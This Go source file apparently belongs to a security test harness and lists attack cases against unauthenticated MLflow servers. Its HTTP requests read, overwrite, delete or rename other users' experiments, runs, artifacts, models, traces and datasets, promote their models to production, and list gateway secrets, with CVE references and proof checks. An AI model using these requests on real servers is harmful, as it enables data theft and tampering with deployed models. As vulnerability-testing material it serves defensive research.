package attack

// mlflowOthers reads and changes what belongs to somebody else, which a server without a login lets anybody do.
var mlflowOthers = []Attack{
	{
		ID: "mlflow/others-experiment", Doc: "reads somebody else's experiment by its name", Works: everywhere,
		Steps: steps(theirs(), []Step{get(api2 + "/experiments/get-by-name?experiment_name=secret-${nonce}")}),
		Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "mlflow/others-experiment-search", Doc: "finds somebody else's experiment in a search", Works: everywhere,
		Steps: steps(theirs(), []Step{post(api2+"/experiments/search", `{"max_results": 100, "filter": "name LIKE 'secret-${nonce}%'"}`)}),
		Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "mlflow/others-run", Doc: "reads the parameters of somebody else's run", Works: everywhere,
		Steps: steps(theirs(), []Step{get(api2 + "/runs/get?run_id=${vrun}")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-run-search", Doc: "searches the runs of somebody else's experiment", Works: everywhere,
		Steps: steps(theirs(), []Step{post(api2+"/runs/search", `{"experiment_ids": ["${vexp}"]}`)}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-run-search-mixed", Doc: "searches one's own and somebody else's experiment together", Works: everywhere,
		Steps: steps(theirs(), []Step{experiment(), post(api2+"/runs/search", `{"experiment_ids": ["${exp}", "${vexp}"], "max_results": 50}`)}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-metric", Doc: "reads the metrics of somebody else's run", Works: everywhere,
		Steps: steps(theirs(), []Step{get(api2 + "/metrics/get-history?run_id=${vrun}&metric_key=m&max_results=100")}),
		Proof: Proof{Answer: "4711.25"},
	},
	{
		ID: "mlflow/others-artifact", Doc: "downloads an artifact of somebody else's run", Works: everywhere,
		Steps: steps(theirs(), theirFile(), []Step{get("/get-artifact?run_id=${vrun}&path=note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-artifact-proxy", Doc: "downloads it by its path in the artifact store", Works: everywhere,
		Steps: steps(theirs(), theirFile(), []Step{get(files + "/${vexp}/${vrun}/artifacts/note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-artifact-ajax", Doc: "downloads it by the path that the interface uses", Works: everywhere,
		Steps: steps(theirs(), theirFile(), []Step{get("/ajax-api/2.0/mlflow-artifacts/artifacts/${vexp}/${vrun}/artifacts/note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-artifact-overwrite", Doc: "overwrites an artifact of somebody else's run", Works: everywhere,
		Steps: steps(theirs(), theirFile(), []Step{put(files+"/${vexp}/${vrun}/artifacts/note.txt", []byte("other-${nonce}"))}),
		Proof: Proof{Probe: probe("GET " + files + "/${vexp}/${vrun}/artifacts/note.txt"), Shows: "other-${nonce}"},
	},
	{
		ID: "mlflow/others-artifact-through-version", Doc: "registers a version whose source is somebody else's artifacts, and reads them as one's own model",
		Works: []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0"},
		Steps: steps(theirs(), theirFile(), []Step{model(), version("mlflow-artifacts:/${vexp}/${vrun}/artifacts"), versionArtifact("note.txt")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-artifact-through-location", Doc: "creates an experiment whose location is somebody else's artifacts",
		Works: []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
		Steps: steps(theirs(), []Step{
			experimentAt("mlflow-artifacts:/${vexp}"), newRun(),
			put(files+"/${vexp}/${run}/artifacts/planted.txt", []byte("other-${nonce}")),
		}),
		Proof: Proof{Probe: probe("GET " + files + "/${vexp}/${run}/artifacts/planted.txt"), Shows: "other-${nonce}"},
	},
	{
		ID: "mlflow/others-experiment-delete", Doc: "deletes somebody else's experiment", Works: everywhere,
		Steps: steps(theirs(), []Step{post(api2+"/experiments/delete", `{"experiment_id": "${vexp}"}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get?experiment_id=${vexp}"), Shows: `"lifecycle_stage": "deleted"`},
	},
	{
		ID: "mlflow/others-run-tag", Doc: "changes a tag of somebody else's run", Works: everywhere,
		Steps: steps(theirs(), []Step{post(ajax2+"/runs/set-tag", `{"run_id": "${vrun}", "key": "t", "value": "other-${nonce}"}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/runs/get?run_id=${vrun}"), Shows: "other-${nonce}"},
	},
	{
		ID: "mlflow/others-run-batch", Doc: "logs into somebody else's run, with the run named by its old name", Works: everywhere,
		Steps: steps(theirs(), []Step{post(api2+"/runs/log-parameter", `{"run_uuid": "${vrun}", "key": "q", "value": "other-${nonce}"}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/runs/get?run_id=${vrun}"), Shows: "other-${nonce}"},
	},
	{
		ID: "mlflow/others-model", Doc: "reads what somebody else registered", Works: everywhere,
		Steps: steps(theirs(), theirModel(), []Step{get(api2 + "/registered-models/get?name=secret-${nonce}")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-model-search", CVE: []string{"CVE-2026-2734"}, Doc: "finds somebody else's versions in a search", Works: everywhere,
		Steps: steps(theirs(), theirModel(), []Step{get(api2 + "/model-versions/search?filter=name%3D'secret-${nonce}'")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-model-delete", Doc: "deletes somebody else's registered model", Works: everywhere,
		Steps: steps(theirs(), theirModel(), []Step{{Request: "DELETE " + api2 + "/registered-models/delete\n\n" + `{"name": "secret-${nonce}"}`}}),
		Proof: Proof{Probe: probe("GET " + api2 + "/registered-models/get?name=secret-${nonce}"), Hides: "${secret}"},
	},
	{
		ID: "mlflow/others-model-rename", Doc: "renames somebody else's registered model", Works: everywhere,
		Steps: steps(theirs(), theirModel(), []Step{post(api2+"/registered-models/rename", `{"name": "secret-${nonce}", "new_name": "lab-taken-${nonce}"}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/registered-models/get?name=lab-taken-${nonce}"), Shows: "${secret}"},
	},
	{
		ID: "mlflow/others-stage", Doc: "moves somebody else's version into production", Works: everywhere,
		Steps: steps(theirs(), theirModel(), []Step{post(api2+"/model-versions/transition-stage", `{"name": "secret-${nonce}", "version": "1", "stage": "Production", "archive_existing_versions": false}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/model-versions/get?name=secret-${nonce}&version=1"), Shows: "Production"},
	},
	{
		ID: "mlflow/others-alias", Doc: "points the production alias of somebody else's model to another version",
		Works: []string{"2.9.2", "2.16.2", "3.4.0", "3.9.0", "new"},
		Steps: steps(theirs(), theirModel(), []Step{post(api2+"/registered-models/alias", `{"name": "secret-${nonce}", "alias": "production", "version": "1"}`)}),
		Proof: Proof{Probe: probe("GET " + api2 + "/registered-models/alias?name=secret-${nonce}&alias=production"), Shows: "secret-${nonce}"},
	},
	{
		ID: "mlflow/others-trace", CVE: []string{"CVE-2025-15381", "CVE-2026-8147"}, Doc: "reads somebody else's trace", Works: []string{"new", "3.9.0", "3.4.0"},
		Steps: steps(theirs(), theirTrace(), []Step{get("/api/3.0/mlflow/traces/${vtrace}")}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-trace-search", Doc: "searches the traces of somebody else's experiment", Works: []string{"new", "3.9.0", "3.4.0"},
		Steps: steps(theirs(), theirTrace(), []Step{post("/api/3.0/mlflow/traces/search", `{"locations": [{"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "${vexp}"}}], "max_results": 10}`)}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-logged-model", CVE: []string{"CVE-2026-33866"}, Doc: "downloads the files of somebody else's logged model", Works: []string{"new", "3.9.0", "3.4.0"},
		Steps: steps(theirs(), []Step{
			post(api2+"/logged-models", `{"experiment_id": "${vexp}", "name": "theirs"}`).save("vmodel", "model.info.model_id").by(Victim),
			put(files+"/${vexp}/models/${vmodel}/artifacts/note.txt", []byte("${secret}")).by(Victim),
			get(ajax2 + "/logged-models/${vmodel}/artifacts/files?artifact_file_path=note.txt"),
		}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/others-gateway-secrets", CVE: []string{"CVE-2026-3198"}, Doc: "lists the secrets of the model gateway", Works: []string{"new", "3.9.0"},
		Steps: []Step{
			post("/api/3.0/mlflow/gateway/secrets/create", `{"secret_name": "secret-${nonce}", "secret_value": {"api_key": "not-a-key-${nonce}"}, "provider": "openai"}`).by(Victim),
			get("/api/3.0/mlflow/gateway/secrets/list"),
		},
		Proof: Proof{Answer: "secret-${nonce}"},
	},
	{
		ID: "mlflow/others-dataset", Doc: "reads the records of somebody else's evaluation dataset", Works: []string{"new", "3.9.0"},
		Steps: steps(theirs(), []Step{
			post("/api/3.0/mlflow/datasets/create", `{"name": "secret-${nonce}", "experiment_ids": ["${vexp}"]}`).save("vdata", "dataset.dataset_id").by(Victim),
			post("/api/3.0/mlflow/datasets/${vdata}/records", `{"records": "[{\"inputs\": {\"q\": \"${secret}\"}}]"}`).by(Victim),
			get("/api/3.0/mlflow/datasets/${vdata}/records?dataset_id=${vdata}"),
		}),
		Proof: Proof{Answer: "${secret}"},
	},
	{
		ID: "mlflow/anonymous-experiment", Doc: "creates an experiment without an account", Works: everywhere,
		Steps: []Step{post(api2+"/experiments/create", `{"name": "lab-${nonce}"}`).by(Nobody)},
		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
		Check: &Check{
			Steps: []Step{post(api2+"/experiments/create", `{"name": "Default"}`).by(Nobody)},
			Proof: Proof{Like: existsAlready},
		},
	},
	{
		ID: "mlflow/anonymous-search", Doc: "lists the experiments without an account", Works: everywhere,
		Steps: []Step{get(api2 + "/experiments/get?experiment_id=0").by(Nobody)},
		Proof: Proof{Answer: "artifact_location"}, ReadOnly: true,
	},
	{
		ID: "mlflow/anonymous-traces", CVE: []string{"CVE-2026-2652", "CVE-2026-0545"}, Doc: "writes a trace by OpenTelemetry's route without an account", Works: []string{"new", "3.9.0", "3.4.0"},
		Steps: steps(theirs(), []Step{{
			Request: "POST /v1/traces\nContent-Type: application/x-protobuf\nX-Mlflow-Experiment-Id: ${vexp}", Body: otlpTrace("planted"), By: Nobody}}),
		Proof: Proof{Probe: &Step{Request: "POST /api/3.0/mlflow/traces/search\n\n" + `{"locations": [{"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "${vexp}"}}], "max_results": 10}`}, Shows: "trace_id"},
	},
}

// everywhere are the releases that the tests have; these attacks need nothing but the lack of a login.
var everywhere = []string{"new", "2.9.2", "2.16.2", "2.8.0", "3.9.0"}

func theirTrace() []Step {
	return []Step{post("/api/3.0/mlflow/traces", `{"trace": {"trace_info": {"trace_id": "tr-${nonce}", "trace_location": {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "${vexp}"}}, "request_time": "2026-01-01T00:00:00Z", "state": "OK", "request_preview": "${secret}", "tags": {"t": "${secret}"}}}}`).
		save("vtrace", "trace.trace_info.trace_id").by(Victim)}
}

// otlpTrace is an ExportTraceServiceRequest (opentelemetry/proto/collector/trace/v1) with one span of the given name.
func otlpTrace(name string) []byte {
	field := func(n byte, b []byte) []byte { return append([]byte{n<<3 | 2, byte(len(b))}, b...) }
	fixed := func(n byte) []byte { return []byte{n<<3 | 1, 0, 0, 0x8a, 0x5d, 0x78, 0x45, 0x63, 0x17} } // nanoseconds since 1970, in 2023
	span := field(1, []byte("0123456789abcdef"))
	span = append(span, field(2, []byte("01234567"))...)
	span = append(span, field(5, []byte(name))...)
	span = append(append(span, fixed(7)...), fixed(8)...)
	return field(1, field(2, field(2, span)))
}
